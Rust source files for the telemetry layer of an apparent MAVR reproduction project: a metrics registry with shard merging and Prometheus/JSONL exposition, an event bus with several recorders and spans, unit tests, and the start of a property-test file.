    }

    /// Current value of a counter series (0 if absent).
    pub fn counter_value(&self, name: &str, labels: &[(&str, &str)]) -> u64 {
        match self.metrics.get(&key(name, labels)) {
            Some(Metric::Counter(c)) => *c,
            _ => 0,
        }
    }

    /// Look up a sketch series.
    pub fn sketch(&self, name: &str, labels: &[(&str, &str)]) -> Option<&QuantileSketch> {
        match self.metrics.get(&key(name, labels)) {
            Some(Metric::Sketch(s)) => Some(s),
            _ => None,
        }
    }

    /// Look up a histogram series.
    pub fn histogram(&self, name: &str, labels: &[(&str, &str)]) -> Option<&Histogram> {
        match self.metrics.get(&key(name, labels)) {
            Some(Metric::Histogram(h)) => Some(h),
            _ => None,
        }
    }

    /// Fold another registry (a worker shard, typically) into this one.
    /// Counters, histograms, and sketches add element-wise; gauges keep
    /// the max. Associative and commutative, so any shard partition and
    /// merge order produce byte-identical expositions.
    ///
    /// Panics if a series exists in both with different types.
    pub fn merge(&mut self, other: &MetricsRegistry) {
        for (k, m) in &other.metrics {
            match self.metrics.entry(k.clone()) {
                std::collections::btree_map::Entry::Vacant(e) => {
                    e.insert(m.clone());
                }
                std::collections::btree_map::Entry::Occupied(mut e) => match (e.get_mut(), m) {
                    (Metric::Counter(a), Metric::Counter(b)) => *a += b,
                    (Metric::Gauge(a), Metric::Gauge(b)) => *a = a.max(*b),
                    (Metric::Histogram(a), Metric::Histogram(b)) => a.merge(b),
                    (Metric::Sketch(a), Metric::Sketch(b)) => a.merge(b),
                    (a, b) => panic!(
                        "metric {} merged as {} into {}",
                        k.name,
                        b.type_name(),
                        a.type_name()
                    ),
                },
            }
        }
    }

    /// Prometheus-style text exposition. Sketches render as summaries
    /// (quantiles 0 / 0.5 / 0.9 / 0.99 / 1 plus `_sum`/`_count`),
    /// histograms as cumulative `_bucket{le=...}` series.
    pub fn to_prometheus(&self) -> String {
        let mut out = String::new();
        let mut last_name: Option<&str> = None;
        for (k, m) in &self.metrics {
            if last_name != Some(k.name.as_str()) {
                let t = match m {
                    Metric::Counter(_) => "counter",
                    Metric::Gauge(_) => "gauge",
                    Metric::Histogram(_) => "histogram",
                    Metric::Sketch(_) => "summary",
                };
                out.push_str(&format!("# TYPE {} {}\n", k.name, t));
                last_name = Some(k.name.as_str());
            }
            match m {
                Metric::Counter(c) => {
                    out.push_str(&format!(
                        "{}{} {}\n",
                        k.name,
                        prom_labels(&k.labels, &[]),
                        c
                    ));
                }
                Metric::Gauge(g) => {
                    out.push_str(&format!(
                        "{}{} {}\n",
                        k.name,
                        prom_labels(&k.labels, &[]),
                        g
                    ));
                }
                Metric::Histogram(h) => {
                    let mut cum = 0u64;
                    for (i, &n) in h.slots().iter().enumerate() {
                        if n == 0 {
                            continue;
                        }
                        cum += n;
                        let le = match Histogram::slot_upper_bound(i) {
                            Some(b) => b.to_string(),
                            None => "+Inf".to_string(),
                        };
                        out.push_str(&format!(
                            "{}_bucket{} {}\n",
                            k.name,
                            prom_labels(&k.labels, &[("le", &le)]),
                            cum
                        ));
                    }
                    out.push_str(&format!(
                        "{}_bucket{} {}\n",
                        k.name,
                        prom_labels(&k.labels, &[("le", "+Inf")]),
                        h.count()
                    ));
                    let l = prom_labels(&k.labels, &[]);
                    out.push_str(&format!("{}_sum{} {}\n", k.name, l, h.sum()));
                    out.push_str(&format!("{}_count{} {}\n", k.name, l, h.count()));
                }
                Metric::Sketch(s) => {
                    if s.count() > 0 {
                        for (q, label) in [
                            (0.0, "0"),
                            (0.5, "0.5"),
                            (0.9, "0.9"),
                            (0.99, "0.99"),
                            (1.0, "1"),
                        ] {
                            out.push_str(&format!(
                                "{}{} {}\n",
                                k.name,
                                prom_labels(&k.labels, &[("quantile", label)]),
                                s.quantile(q).unwrap()
                            ));
                        }
                    }
                    let l = prom_labels(&k.labels, &[]);
                    out.push_str(&format!("{}_sum{} {}\n", k.name, l, s.sum()));
                    out.push_str(&format!("{}_count{} {}\n", k.name, l, s.count()));
                }
            }
        }
        out
    }

    /// JSONL exposition: one self-describing object per series, in
    /// registry order. Sketch lines carry exact min/max/sum/count, the
    /// three headline quantiles, and the raw sparse buckets.
    pub fn to_jsonl(&self) -> String {
        let mut out = String::new();
        for (k, m) in &self.metrics {
            out.push_str(&format!(
                "{{\"name\":\"{}\",\"labels\":{{",
                json_escape(&k.name)
            ));
            for (i, (lk, lv)) in k.labels.iter().enumerate() {
                if i > 0 {
                    out.push(',');
                }
                out.push_str(&format!("\"{}\":\"{}\"", json_escape(lk), json_escape(lv)));
            }
            out.push_str("},");
            match m {
                Metric::Counter(c) => {
                    out.push_str(&format!("\"type\":\"counter\",\"value\":{c}"));
                }
                Metric::Gauge(g) => {
                    out.push_str(&format!("\"type\":\"gauge\",\"value\":{g}"));
                }
                Metric::Histogram(h) => {
                    out.push_str(&format!(
                        "\"type\":\"histogram\",\"count\":{},\"sum\":{},\"slots\":[",
                        h.count(),
                        h.sum()
                    ));
                    let mut first = true;
                    for (i, &n) in h.slots().iter().enumerate() {
                        if n == 0 {
                            continue;
                        }
                        if !first {
                            out.push(',');
                        }
                        first = false;
                        out.push_str(&format!("[{i},{n}]"));
                    }
                    out.push(']');
                }
                Metric::Sketch(s) => {
                    out.push_str(&format!(
                        "\"type\":\"sketch\",\"count\":{},\"sum\":{}",
                        s.count(),
                        s.sum()
                    ));
                    if s.count() > 0 {
                        out.push_str(&format!(
                            ",\"min\":{},\"p50\":{},\"p90\":{},\"p99\":{},\"max\":{}",
                            s.min().unwrap(),
                            s.quantile(0.5).unwrap(),
                            s.quantile(0.9).unwrap(),
                            s.quantile(0.99).unwrap(),
                            s.max().unwrap()
                        ));
                    }
                    out.push_str(",\"buckets\":[");
                    for (i, (&idx, &n)) in s.buckets.iter().enumerate() {
                        if i > 0 {
                            out.push(',');
                        }
                        out.push_str(&format!("[{idx},{n}]"));
                    }
                    out.push(']');
                }
            }
            out.push_str("}\n");
        }
        out
    }
}

/// Render a Prometheus label set: sorted base labels plus trailing extras
/// (`le` / `quantile`), or the empty string when there are none.
fn prom_labels(labels: &[(String, String)], extra: &[(&str, &str)]) -> String {
    if labels.is_empty() && extra.is_empty() {
        return String::new();
    }
    let mut out = String::from("{");
    let mut first = true;
    for (k, v) in labels
        .iter()
        .map(|(k, v)| (k.as_str(), v.as_str()))
        .chain(extra.iter().copied())
    {
        if !first {
            out.push(',');
        }
        first = false;
        out.push_str(&format!("{}=\"{}\"", k, json_escape(v)));
    }
    out.push('}');
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn bucket_index_is_monotone_and_floor_inverts() {
        let mut prev = 0u16;
        for v in 0..100_000u64 {
            let i = bucket_index(v);
            assert!(i >= prev, "index not monotone at {v}");
            prev = i;
            let lo = bucket_floor(i);
            assert!(lo <= v, "floor {lo} above value {v}");
            if v >= EXACT_LIMIT {
                // Relative bucket width bound.
                assert!((v - lo) as f64 <= RELATIVE_ERROR * lo as f64 + 1.0);
            } else {
                assert_eq!(lo, v, "small values must be exact");
            }
        }
        for shift in 6..63 {
            let v = 1u64 << shift;
            assert_eq!(bucket_floor(bucket_index(v)), v);
        }
    }

    #[test]
    fn sketch_quantiles_hit_error_bound() {
        let mut s = QuantileSketch::new();
        for v in 1..=10_000u64 {
            s.record(v);
        }
        assert_eq!(s.count(), 10_000);
        assert_eq!(s.min(), Some(1));
        assert_eq!(s.max(), Some(10_000));
        assert_eq!(s.quantile(0.0), Some(1));
        assert_eq!(s.quantile(1.0), Some(10_000));
        assert_eq!(s.mean(), Some(5000.5));
        for q in [0.1f64, 0.25, 0.5, 0.75, 0.9, 0.99] {
            let exact = (q * 9999.0).floor() as u64 + 1;
            let est = s.quantile(q).unwrap();
            assert!(est <= exact, "q{q}: est {est} above exact {exact}");
            assert!(
                exact as f64 <= est as f64 * (1.0 + RELATIVE_ERROR),
                "q{q}: est {est} too far below exact {exact}"
            );
        }
    }

    #[test]
    fn sketch_merge_equals_single_stream_and_roundtrips_bytes() {
        let values: Vec<u64> = (0..5_000u64)
            .map(|i| i.wrapping_mul(2654435761) >> 20)
            .collect();
        let mut whole = QuantileSketch::new();
        for &v in &values {
            whole.record(v);
        }
        let mut a = QuantileSketch::new();
        let mut b = QuantileSketch::new();
        for (i, &v) in values.iter().enumerate() {
            if i % 3 == 0 {
                a.record(v);
            } else {
                b.record(v);
            }
        }
        let mut ab = a.clone();
        ab.merge(&b);
        let mut ba = b.clone();
        ba.merge(&a);
        assert_eq!(ab, whole);
        assert_eq!(ba, whole);
        assert_eq!(ab.to_bytes(), whole.to_bytes());
        let back = QuantileSketch::from_bytes(&whole.to_bytes()).unwrap();
        assert_eq!(back, whole);
        assert_eq!(QuantileSketch::from_bytes(b"MQSKgarbage"), None);
        assert_eq!(
            QuantileSketch::from_bytes(&QuantileSketch::new().to_bytes()),
            Some(QuantileSketch::new())
        );
    }

    #[test]
    fn histogram_slots_and_merge() {
        let mut h = Histogram::new();
        for v in [0, 1, 2, 3, 4, 1023, 1024] {
            h.record(v);
        }
        assert_eq!(h.count(), 7);
        assert_eq!(h.slots()[0], 1); // 0
        assert_eq!(h.slots()[1], 1); // 1
        assert_eq!(h.slots()[2], 2); // 2..3
        assert_eq!(h.slots()[3], 1); // 4..7
        assert_eq!(h.slots()[10], 1); // 512..1023
        assert_eq!(h.slots()[11], 1); // 1024..2047
        let mut other = Histogram::new();
        other.record(5);
        let mut merged = h.clone();
        merged.merge(&other);
        assert_eq!(merged.count(), 8);
        assert_eq!(merged.slots()[3], 2);
        assert_eq!(Histogram::slot_upper_bound(0), Some(0));
        assert_eq!(Histogram::slot_upper_bound(3), Some(7));
        assert_eq!(Histogram::slot_upper_bound(HISTOGRAM_SLOTS - 1), None);
    }

    #[test]
    fn registry_merge_is_order_insensitive_and_expositions_stable() {
        let build = |vals: &[(u64, u64)]| {
            let mut r = MetricsRegistry::new();
            for &(packets, latency) in vals {
                r.add_counter("boards_total", &[("scenario", "v2")], 1);
                r.observe_histogram("packets", &[("scenario", "v2")], packets);
                r.observe_sketch("latency", &[("scenario", "v2")], latency);
            }
            r.set_gauge("jobs_total", &[], vals.len() as f64);
            r
        };
        let all = build(&[(10, 100), (20, 5000), (7, 40_000), (3, 123)]);
        let mut left = build(&[(10, 100), (20, 5000)]);
        let right = build(&[(7, 40_000), (3, 123)]);
        let mut right2 = right.clone();
        left.merge(&right);
        right2.merge(&build(&[(10, 100), (20, 5000)]));
        // Gauges keep the max, so set both shards to the full total first.
        left.set_gauge("jobs_total", &[], 4.0);
        right2.set_gauge("jobs_total", &[], 4.0);
        assert_eq!(left.to_prometheus(), all.to_prometheus());
        assert_eq!(left.to_jsonl(), all.to_jsonl());
        assert_eq!(right2.to_jsonl(), all.to_jsonl());
        assert!(all.to_prometheus().contains("# TYPE latency summary"));
        assert!(all
            .to_prometheus()
            .contains("latency{scenario=\"v2\",quantile=\"0.5\"}"));
        assert!(all.to_jsonl().contains("\"type\":\"histogram\""));
        assert_eq!(all.counter_value("boards_total", &[("scenario", "v2")]), 4);
        assert!(all.sketch("latency", &[("scenario", "v2")]).is_some());
        assert!(all.histogram("packets", &[("scenario", "v2")]).is_some());
    }

    #[test]
    fn label_order_does_not_matter() {
        let mut a = MetricsRegistry::new();
        a.add_counter("x", &[("b", "2"), ("a", "1")], 3);
        let mut b = MetricsRegistry::new();
        b.add_counter("x", &[("a", "1"), ("b", "2")], 3);
        assert_eq!(a.to_prometheus(), b.to_prometheus());
        assert_eq!(a.counter_value("x", &[("b", "2"), ("a", "1")]), 3);
    }
}
