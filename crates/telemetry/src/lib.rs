//! Flight-recorder telemetry: a zero-dependency, allocation-light event bus
//! for the MAVR reproduction.
//!
//! Every layer of the stack — the AVR simulator, the dual-processor board,
//! the attack pipeline, the protocol codecs — emits structured [`Event`]s
//! through a shared [`Telemetry`] handle. The handle is an `Option` around a
//! reference-counted [`Recorder`]; when no recorder is attached (the
//! default), emitting costs **one branch** and allocates nothing, because
//! event fields are built inside a closure that never runs. This keeps the
//! simulator's hot loop unaffected by instrumentation that is off.
//!
//! Three sinks ship with the crate:
//!
//! * [`NullRecorder`] — counts events and drops them (for overhead tests),
//! * [`RingRecorder`] — a bounded in-memory ring, the post-mortem "flight
//!   recorder" proper,
//! * [`JsonlRecorder`] — streams each event as one JSON line to any
//!   `io::Write`, for offline analysis (`mavr-cli trace --out events.jsonl`).
//!
//! [`Span`] measures wall-clock phases (container read, randomize, program)
//! and emits a closing event with the elapsed microseconds.

#![forbid(unsafe_code)]
#![warn(missing_docs)]

use std::collections::BTreeMap;
use std::fmt;
use std::io::Write;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Instant;

/// Well-known event kinds shared across crates.
///
/// Most emitters name their kinds inline (`"sim.fault"`, `"board.recovery"`
/// — grep finds them next to the `emit` call). The snapshot/replay layer is
/// different: the *producer* (the `snapshot` crate) and the *consumers*
/// (fleet resume, CLI, flight-recorder analysis) live in different crates,
/// so its kinds are named here once and imported everywhere.
pub mod kinds {
    /// A machine or board snapshot was written.
    pub const SNAPSHOT_SAVED: &str = "snapshot.saved";
    /// Execution state was replaced from a snapshot.
    pub const SNAPSHOT_RESTORED: &str = "snapshot.restored";
    /// A fleet campaign resumed from a checkpoint instead of starting cold.
    pub const CHECKPOINT_RESUMED: &str = "campaign.checkpoint_resumed";
    /// The master retried part of the reflash pipeline: a container
    /// re-read, a full-stream re-send, or a page-repair round. Produced by
    /// the board crate, consumed by fleet chaos reporting and tests.
    pub const REFLASH_RETRY: &str = "master.reflash_retry";
    /// The master fell back to degraded safe mode: the last-known-good
    /// image was re-streamed without fresh randomization.
    pub const DEGRADED_BOOT: &str = "master.degraded_boot";
    /// A boot failed terminally after retries and the degraded fallback;
    /// the board is bricked pending manual service.
    pub const BOOT_FAILED: &str = "master.boot_failed";
    /// Periodic campaign progress heartbeat: jobs done/total, running
    /// tallies, and boards·cycles/sec throughput. Produced by the fleet
    /// worker pool, rendered live by `mavr-cli fleet --progress`. The only
    /// place wall-clock numbers are allowed — metrics snapshots stay
    /// wall-clock-free so same-seed runs diff byte-identical.
    pub const CAMPAIGN_PROGRESS: &str = "campaign.progress";
    /// A campaign run stopped early on a shutdown request (SIGINT/SIGTERM
    /// or a service stop): the worker pool drained in-flight jobs and the
    /// completed prefix was flushed to its checkpoint. Produced by the
    /// fleet engine, consumed by the CLI and the campaign service.
    pub const CAMPAIGN_INTERRUPTED: &str = "campaign.interrupted";
    /// A campaign shard's checkpoint was persisted (complete or partial).
    /// Produced by the campaign service runner.
    pub const SHARD_FLUSHED: &str = "campaign.shard_flushed";
    /// A supervised job attempt failed (panic or watchdog timeout) and
    /// will be retried with backoff. Produced by the fleet worker pool.
    pub const JOB_RETRIED: &str = "campaign.job_retried";
    /// A job exhausted its supervised retries and was quarantined: its
    /// outcome carries a typed failure record instead of a flight.
    pub const JOB_QUARANTINED: &str = "campaign.job_quarantined";
    /// A shard checkpoint could not be persisted even after bounded
    /// retries; the campaign continued and the shard's unpersisted slice
    /// will re-run. Produced by the campaign service runner.
    pub const CHECKPOINT_SKIPPED: &str = "campaign.checkpoint_skipped";
}

pub mod metrics;

/// A typed field value attached to an event.
#[derive(Debug, Clone, PartialEq)]
pub enum Value {
    /// Unsigned integer (cycle counts, addresses, sizes).
    U64(u64),
    /// Signed integer.
    I64(i64),
    /// Floating point (milliseconds, rates).
    F64(f64),
    /// Text (fault descriptions, symbol names).
    Str(String),
    /// Boolean flag.
    Bool(bool),
}

impl From<u64> for Value {
    fn from(v: u64) -> Self {
        Value::U64(v)
    }
}
impl From<u32> for Value {
    fn from(v: u32) -> Self {
        Value::U64(u64::from(v))
    }
}
impl From<u16> for Value {
    fn from(v: u16) -> Self {
        Value::U64(u64::from(v))
    }
}
impl From<usize> for Value {
    fn from(v: usize) -> Self {
        Value::U64(v as u64)
    }
}
impl From<i64> for Value {
    fn from(v: i64) -> Self {
        Value::I64(v)
    }
}
impl From<f64> for Value {
    fn from(v: f64) -> Self {
        Value::F64(v)
    }
}
impl From<bool> for Value {
    fn from(v: bool) -> Self {
        Value::Bool(v)
    }
}
impl From<String> for Value {
    fn from(v: String) -> Self {
        Value::Str(v)
    }
}
impl From<&str> for Value {
    fn from(v: &str) -> Self {
        Value::Str(v.to_string())
    }
}

impl fmt::Display for Value {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Value::U64(v) => write!(f, "{v}"),
            Value::I64(v) => write!(f, "{v}"),
            Value::F64(v) => write!(f, "{v}"),
            Value::Str(v) => write!(f, "{v}"),
            Value::Bool(v) => write!(f, "{v}"),
        }
    }
}

/// Escape a string for inclusion inside a JSON string literal.
pub fn json_escape(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if (c as u32) < 0x20 => out.push_str(&format!("\\u{:04x}", c as u32)),
            c => out.push(c),
        }
    }
    out
}

impl Value {
    /// Render as a JSON value.
    pub fn to_json(&self) -> String {
        match self {
            Value::U64(v) => v.to_string(),
            Value::I64(v) => v.to_string(),
            Value::F64(v) if v.is_finite() => v.to_string(),
            Value::F64(_) => "null".to_string(),
            Value::Str(v) => format!("\"{}\"", json_escape(v)),
            Value::Bool(v) => v.to_string(),
        }
    }
}

/// One structured event on the bus.
#[derive(Debug, Clone, PartialEq)]
pub struct Event {
    /// Monotonic sequence number assigned by the [`Telemetry`] handle.
    pub seq: u64,
    /// Dotted event kind, e.g. `sim.fault` or `board.recovery`.
    pub kind: &'static str,
    /// Simulated-time stamp in CPU cycles, when the emitter has one.
    pub cycle: Option<u64>,
    /// Typed fields, in emission order.
    pub fields: Vec<(&'static str, Value)>,
}

impl Event {
    /// Fetch a field by name.
    pub fn field(&self, name: &str) -> Option<&Value> {
        self.fields.iter().find(|(k, _)| *k == name).map(|(_, v)| v)
    }

    /// Render as one JSON object (no trailing newline).
    pub fn to_json(&self) -> String {
        let mut out = format!(
            "{{\"seq\":{},\"kind\":\"{}\"",
            self.seq,
            json_escape(self.kind)
        );
        if let Some(c) = self.cycle {
            out.push_str(&format!(",\"cycle\":{c}"));
        }
        for (k, v) in &self.fields {
            out.push_str(&format!(",\"{}\":{}", json_escape(k), v.to_json()));
        }
        out.push('}');
        out
    }
}

/// An event sink.
pub trait Recorder {
    /// Consume one event.
    fn record(&mut self, event: Event);
    /// Events seen so far (including any later dropped by a bounded sink).
    fn events_emitted(&self) -> u64;
}

/// Counts events and discards them — the "instrumentation on, sink off"
/// configuration used to measure recorder overhead.
#[derive(Debug, Default)]
pub struct NullRecorder {
    seen: u64,
}

impl Recorder for NullRecorder {
    fn record(&mut self, _event: Event) {
        self.seen += 1;
    }
    fn events_emitted(&self) -> u64 {
        self.seen
    }
}

/// Bounded in-memory ring of the most recent events.
#[derive(Debug)]
pub struct RingRecorder {
    events: std::collections::VecDeque<Event>,
    capacity: usize,
    seen: u64,
}

impl RingRecorder {
    /// Ring holding the latest `capacity` events.
    pub fn new(capacity: usize) -> Self {
        RingRecorder {
            events: std::collections::VecDeque::with_capacity(capacity.min(4096)),
            capacity: capacity.max(1),
            seen: 0,
        }
    }

    /// The retained events, oldest first.
    pub fn events(&self) -> impl Iterator<Item = &Event> {
        self.events.iter()
    }

    /// Events that fell off the front of the ring.
    pub fn dropped(&self) -> u64 {
        self.seen - self.events.len() as u64
    }

    /// Count of retained events per kind, sorted by kind.
    pub fn histogram(&self) -> BTreeMap<&'static str, u64> {
        let mut h = BTreeMap::new();
        for e in &self.events {
            *h.entry(e.kind).or_insert(0) += 1;
        }
        h
    }

    /// Serialize every retained event as JSON lines.
    pub fn to_jsonl(&self) -> String {
        let mut out = String::new();
        for e in &self.events {
            out.push_str(&e.to_json());
            out.push('\n');
        }
        out
    }
}

impl Recorder for RingRecorder {
    fn record(&mut self, event: Event) {
        if self.events.len() == self.capacity {
            self.events.pop_front();
        }
        self.events.push_back(event);
        self.seen += 1;
    }
    fn events_emitted(&self) -> u64 {
        self.seen
    }
}

/// Streams each event as one JSON line into a writer.
pub struct JsonlRecorder<W: Write> {
    out: W,
    seen: u64,
}

impl<W: Write> JsonlRecorder<W> {
    /// Wrap a writer.
    pub fn new(out: W) -> Self {
        JsonlRecorder { out, seen: 0 }
    }

    /// Unwrap the writer (e.g. to flush or inspect a buffer).
    pub fn into_inner(self) -> W {
        self.out
    }
}

impl<W: Write> Recorder for JsonlRecorder<W> {
    fn record(&mut self, event: Event) {
        // A broken pipe must not crash the simulated board.
        let _ = writeln!(self.out, "{}", event.to_json());
        self.seen += 1;
    }
    fn events_emitted(&self) -> u64 {
        self.seen
    }
}

/// A named set of monotonic counters (for subsystems without natural struct
/// fields to count in).
#[derive(Debug, Clone, Default)]
pub struct Counters {
    map: BTreeMap<&'static str, u64>,
}

impl Counters {
    /// Add `delta` to `name`.
    pub fn add(&mut self, name: &'static str, delta: u64) {
        *self.map.entry(name).or_insert(0) += delta;
    }

    /// Current value of `name` (0 if never touched).
    pub fn get(&self, name: &str) -> u64 {
        self.map.get(name).copied().unwrap_or(0)
    }

    /// Iterate `(name, value)` sorted by name.
    pub fn iter(&self) -> impl Iterator<Item = (&'static str, u64)> + '_ {
        self.map.iter().map(|(k, v)| (*k, *v))
    }

    /// Fold another counter set into this one (fleet campaigns aggregate
    /// per-board counters into one report).
    pub fn merge(&mut self, other: &Counters) {
        for (k, v) in other.iter() {
            self.add(k, v);
        }
    }
}

/// Internal object-safe union of `Recorder` and `Any`, so [`Telemetry`] can
/// both dispatch events and hand the concrete sink back out via
/// [`Telemetry::with_recorder`].
trait AnyRecorder: Recorder + Send {
    fn as_any_mut(&mut self) -> &mut dyn std::any::Any;
}

impl<R: Recorder + Send + 'static> AnyRecorder for R {
    fn as_any_mut(&mut self) -> &mut dyn std::any::Any {
        self
    }
}

struct Bus {
    recorder: Mutex<Box<dyn AnyRecorder>>,
    next_seq: AtomicU64,
}

impl Bus {
    /// Lock the recorder, shrugging off poisoning: a sink that panicked on
    /// one worker thread must not take the rest of a fleet campaign down.
    fn lock(&self) -> std::sync::MutexGuard<'_, Box<dyn AnyRecorder>> {
        self.recorder
            .lock()
            .unwrap_or_else(|poisoned| poisoned.into_inner())
    }
}

/// The cloneable handle every instrumented component holds.
///
/// `Telemetry::off()` (also `Default`) is the null handle: emitting through
/// it is a single `Option` check and the field-building closure never runs.
/// Clones share the underlying recorder, so a board, its master, and its
/// application machine all append to one stream. The handle is `Send +
/// Sync` (the recorder sits behind a mutex), so a fleet campaign can carry
/// per-board instrumented components across worker threads.
#[derive(Clone, Default)]
pub struct Telemetry {
    bus: Option<Arc<Bus>>,
}

impl fmt::Debug for Telemetry {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match &self.bus {
            Some(_) => write!(f, "Telemetry(on)"),
            None => write!(f, "Telemetry(off)"),
        }
    }
}

impl Telemetry {
    /// The inert handle: no recorder, near-zero cost.
    pub fn off() -> Self {
        Telemetry::default()
    }

    /// A handle backed by `recorder`.
    pub fn new(recorder: impl Recorder + Send + 'static) -> Self {
        Telemetry {
            bus: Some(Arc::new(Bus {
                recorder: Mutex::new(Box::new(recorder)),
                next_seq: AtomicU64::new(0),
            })),
        }
    }

    /// Whether a recorder is attached.
    pub fn is_active(&self) -> bool {
        self.bus.is_some()
    }

    /// Emit an event. `fields` is only invoked when a recorder is attached,
    /// so building the field vector costs nothing on the null handle.
    pub fn emit<F>(&self, kind: &'static str, cycle: Option<u64>, fields: F)
    where
        F: FnOnce() -> Vec<(&'static str, Value)>,
    {
        if let Some(bus) = &self.bus {
            let seq = bus.next_seq.fetch_add(1, Ordering::Relaxed);
            bus.lock().record(Event {
                seq,
                kind,
                cycle,
                fields: fields(),
            });
        }
    }

    /// Total events emitted through this handle (0 when off).
    pub fn events_emitted(&self) -> u64 {
        self.bus
            .as_ref()
            .map(|b| b.lock().events_emitted())
            .unwrap_or(0)
    }

    /// Run `f` with the concrete recorder, if it is a `R`. Lets callers get
    /// their `RingRecorder` back out of the handle without keeping a second
    /// reference around.
    pub fn with_recorder<R: Recorder + 'static, T>(
        &self,
        f: impl FnOnce(&mut R) -> T,
    ) -> Option<T> {
        let bus = self.bus.as_ref()?;
        let mut rec = bus.lock();
        rec.as_any_mut().downcast_mut::<R>().map(f)
    }

    /// Start a wall-clock span; the returned guard emits `kind` with an
    /// `elapsed_us` field when finished (or dropped).
    pub fn span(&self, kind: &'static str) -> Span {
        Span {
            telemetry: self.clone(),
            kind,
            started: Instant::now(),
            extra: Vec::new(),
            done: false,
        }
    }
}

/// Span-style phase timer: emits one event with `elapsed_us` on [`Span::end`]
/// or on drop.
pub struct Span {
    telemetry: Telemetry,
    kind: &'static str,
    started: Instant,
    extra: Vec<(&'static str, Value)>,
    done: bool,
}

impl Span {
    /// Attach an extra field to the closing event.
    pub fn field(mut self, name: &'static str, value: impl Into<Value>) -> Self {
        self.extra.push((name, value.into()));
        self
    }

    /// Finish now and emit the closing event.
    pub fn end(mut self) {
        self.finish();
    }

    fn finish(&mut self) {
        if self.done {
            return;
        }
        self.done = true;
        let elapsed_us = self.started.elapsed().as_micros() as u64;
        let extra = std::mem::take(&mut self.extra);
        self.telemetry.emit(self.kind, None, move || {
            let mut f = vec![("elapsed_us", Value::U64(elapsed_us))];
            f.extend(extra);
            f
        });
    }
}

impl Drop for Span {
    fn drop(&mut self) {
        self.finish();
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn off_handle_is_inert_and_skips_field_building() {
        let t = Telemetry::off();
        assert!(!t.is_active());
        let mut built = false;
        t.emit("x", None, || {
            built = true;
            vec![]
        });
        assert!(!built, "null handle must never build fields");
        assert_eq!(t.events_emitted(), 0);
    }

    #[test]
    fn ring_retains_latest_and_counts_drops() {
        let t = Telemetry::new(RingRecorder::new(3));
        for i in 0..5u64 {
            t.emit("tick", Some(i), move || vec![("i", Value::U64(i))]);
        }
        assert_eq!(t.events_emitted(), 5);
        t.with_recorder::<RingRecorder, _>(|r| {
            assert_eq!(r.dropped(), 2);
            let seqs: Vec<u64> = r.events().map(|e| e.seq).collect();
            assert_eq!(seqs, vec![2, 3, 4], "oldest-first, latest retained");
            assert_eq!(r.histogram()["tick"], 3);
        })
        .unwrap();
    }

    #[test]
    fn clones_share_one_stream() {
        let t = Telemetry::new(RingRecorder::new(8));
        let t2 = t.clone();
        t.emit("a", None, Vec::new);
        t2.emit("b", None, Vec::new);
        t.with_recorder::<RingRecorder, _>(|r| {
            let kinds: Vec<_> = r.events().map(|e| e.kind).collect();
            assert_eq!(kinds, vec!["a", "b"]);
            let seqs: Vec<_> = r.events().map(|e| e.seq).collect();
            assert_eq!(seqs, vec![0, 1], "one monotonic sequence across clones");
        })
        .unwrap();
    }

    #[test]
    fn jsonl_recorder_writes_one_line_per_event() {
        let t = Telemetry::new(JsonlRecorder::new(Vec::<u8>::new()));
        t.emit("sim.fault", Some(123), || {
            vec![
                ("fault", Value::Str("invalid \"opcode\"".into())),
                ("pc", Value::U64(0x1a2c)),
                ("clean", Value::Bool(false)),
                ("ms", Value::F64(1.5)),
            ]
        });
        let text = t
            .with_recorder::<JsonlRecorder<Vec<u8>>, _>(|r| {
                String::from_utf8(r.out.clone()).unwrap()
            })
            .unwrap();
        assert_eq!(
            text,
            "{\"seq\":0,\"kind\":\"sim.fault\",\"cycle\":123,\
             \"fault\":\"invalid \\\"opcode\\\"\",\"pc\":6700,\"clean\":false,\"ms\":1.5}\n"
        );
    }

    #[test]
    fn event_field_lookup_and_json_escaping() {
        let e = Event {
            seq: 1,
            kind: "k",
            cycle: None,
            fields: vec![("s", Value::Str("a\nb\\c".into()))],
        };
        assert_eq!(e.field("s"), Some(&Value::Str("a\nb\\c".into())));
        assert!(e.field("missing").is_none());
        assert!(e.to_json().contains("\"a\\nb\\\\c\""));
        assert_eq!(json_escape("\u{1}"), "\\u0001");
    }

    #[test]
    fn span_emits_elapsed() {
        let t = Telemetry::new(RingRecorder::new(4));
        t.span("phase.randomize").field("bytes", 100u64).end();
        {
            let _s = t.span("phase.drop");
        } // drop also emits
        t.with_recorder::<RingRecorder, _>(|r| {
            let evs: Vec<_> = r.events().collect();
            assert_eq!(evs.len(), 2);
            assert_eq!(evs[0].kind, "phase.randomize");
            assert!(evs[0].field("elapsed_us").is_some());
            assert_eq!(evs[0].field("bytes"), Some(&Value::U64(100)));
            assert_eq!(evs[1].kind, "phase.drop");
        })
        .unwrap();
    }

    #[test]
    fn counters_accumulate() {
        let mut c = Counters::default();
        c.add("uart.rx", 3);
        c.add("uart.rx", 2);
        assert_eq!(c.get("uart.rx"), 5);
        assert_eq!(c.get("nope"), 0);
        assert_eq!(c.iter().count(), 1);
    }

    #[test]
    fn counters_merge() {
        let mut a = Counters::default();
        a.add("x", 1);
        let mut b = Counters::default();
        b.add("x", 2);
        b.add("y", 7);
        a.merge(&b);
        assert_eq!(a.get("x"), 3);
        assert_eq!(a.get("y"), 7);
        assert_eq!(b.get("x"), 2, "merge leaves the source untouched");
    }
}
