//! Property tests for the mergeable metrics plane: sharded merges must be
//! associative, commutative and partition-invariant (the guarantee the
//! fleet engine's per-worker shards lean on for byte-identical expositions
//! at any thread count), sketches must round-trip their wire format, and
//! quantile answers must stay inside the documented relative-error bound.

use proptest::collection::vec as pvec;
use proptest::prelude::*;
use telemetry::metrics::{MetricsRegistry, QuantileSketch};

/// Fold one shard's worth of observations the way a fleet worker does:
/// a counter, a labeled sketch and a labeled histogram per value.
fn shard_registry(values: &[u64]) -> MetricsRegistry {
    let mut reg = MetricsRegistry::new();
    for &v in values {
